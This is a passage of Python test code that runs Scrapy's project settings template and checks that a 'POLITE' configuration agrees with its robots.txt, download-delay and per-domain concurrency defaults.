    template = Path(scrapy.__file__).parent / "templates" / "project" / "module" / "settings.py.tmpl"
    names: dict[str, object] = {}
    exec(template.read_text(encoding="utf-8").replace("$project_name", "x"), names)
    for name in ("ROBOTSTXT_OBEY", "DOWNLOAD_DELAY", "CONCURRENT_REQUESTS_PER_DOMAIN"):
        assert POLITE[name] == names.get(name, POLITE[name])
        assert name in Settings()
